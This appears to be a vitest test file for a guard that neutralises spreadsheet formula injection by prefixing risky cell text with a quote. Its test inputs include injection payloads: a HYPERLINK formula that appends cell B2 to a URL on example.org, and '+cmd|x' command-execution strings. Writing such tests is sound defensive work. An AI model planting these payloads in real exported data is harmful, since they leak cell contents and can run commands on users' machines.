import fc from 'fast-check';
import { expect, test } from 'vitest';
import { anyText } from '../../test/support/random-tokens';
import { guarded, unguarded } from './formula';

test.each([
  '=HYPERLINK("https://example.org/?"&B2)',
  '+cmd|x',
  '-1+cmd|x',
  '@SUM(A1)',
  '\t=A1&B1',
  ' =A1&B1',
  '＝HYPERLINK("x")',
  "'=A1&B1",
  '=B2',
  '-B2',
  '+B2',
  '@B2',
  '=a=b',
  '-B2-B2-B2-B2-B2-B2-B2-B2',
  '--R2C2-R10C3-R2C2-R2C2-R2C2',
  '-short_and_no_token',
  '+49',
])('%j runs in no spreadsheet, and comes back', (text) => {
  expect(guarded(text)).toBe(`'${text}`);
  expect(unguarded(guarded(text))).toBe(text);
});

test.each(['upload', `-aBc_09-${'x'.repeat(20)}`, "it's", "'quoted'", '', 'a=b'])(
  '%j stays as it is',
  (text) => {
    expect(guarded(text)).toBe(text);
    expect(unguarded(text)).toBe(text);
  },
);

test('every text comes back', () => {
  fc.assert(
    fc.property(anyText(8), (text) => {
      expect(unguarded(guarded(text))).toBe(text);
    }),
    { numRuns: 5_000 },
  );
});
